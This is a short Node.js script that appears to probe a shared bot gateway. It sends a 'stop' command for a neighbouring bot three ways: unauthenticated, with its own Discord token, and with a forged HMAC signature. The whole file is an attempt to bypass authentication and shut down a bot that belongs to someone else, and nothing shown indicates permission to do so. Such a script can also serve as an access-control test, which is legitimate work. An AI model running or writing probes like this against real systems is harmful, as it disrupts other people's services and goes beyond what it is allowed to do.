// Sends the gateway orders without a signature, or signed with a guessed secret.
const { createHmac } = require("node:crypto");

const guess = (timestamp) => ({
  "x-gateway-timestamp": timestamp,
  "x-gateway-nonce": "0".repeat(32),
  "x-gateway-signature": createHmac("sha256", process.env.DISCORD_TOKEN).update(timestamp).digest("hex"),
});
const attempts = [{}, { authorization: `Bot ${process.env.DISCORD_TOKEN}` }, guess(String(Date.now()))];
Promise.all(
  attempts.map((headers) =>
    fetch(`${process.env.GATEWAY_URL}/bots/${process.env.NEIGHBOUR_ID}/stop`, {
      method: "POST",
      headers,
      body: "{}",
    }).then(
      ({ status }) => status,
      () => "none",
    ),
  ),
).then((statuses) => console.log(`answers ${statuses.join(" ")}\nfinished`));
